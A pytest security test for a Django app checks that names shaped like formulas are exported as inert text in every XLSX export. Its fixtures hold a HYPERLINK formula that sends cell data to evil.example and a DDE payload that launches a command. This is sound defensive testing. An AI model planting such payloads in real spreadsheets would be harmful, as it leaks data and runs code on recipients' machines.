"""Issue 22: a name that looks like a formula is text in every spreadsheet export, never a live formula.

The client form accepts such names (a person may be called anything); the exports must not turn them into
formulas. Every XLSX URL of the permission matrix is fetched with every name in the world poisoned."""

import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client as HttpClient
from openpyxl import load_workbook

from clients.models import Client
from tests.security.test_matrix_wide import _a_permitted_role, _url
from tests.test_permission_matrix import CASES, build_world

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'
XLSX_CASES = [c for c in CASES if c.method == "get" and (c.key.endswith(":xlsx") or "xlsx" in c.url_name
                                                         or c.url_name.endswith("_export"))]


def _poison_names():
    Client.objects.update(first_name=FORMULA, last_name=FORMULA)
    get_user_model().objects.update(first_name=FORMULA, last_name="+358 40 123 4567")
    from rehab_work.models import Placement

    for placement in Placement.objects.all():
        Placement.objects.filter(pk=placement.pk).update(name=f"@SUM(1+1)*cmd|' /C calc'!A{placement.pk}")


def test_the_export_cases_are_found():
    assert {c.url_name for c in XLSX_CASES} >= {"payment_share:review_export", "rehab_work:claim_export",
                                                "rehab_work:attendance_statement", "reporting:xlsx"}


@pytest.mark.parametrize("case", XLSX_CASES, ids=lambda c: c.key)
def test_no_cell_of_an_export_is_a_formula(case):
    world = build_world()
    _poison_names()
    role = _a_permitted_role(case)
    http = HttpClient()
    http.force_login(world.users[role])
    response = http.get(_url(case, world))
    assert response.status_code == 200
    if "spreadsheetml" not in response["Content-Type"]:
        pytest.skip("not a spreadsheet (the PDF variant of the same URL)")
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))
                and not c.quotePrefix]
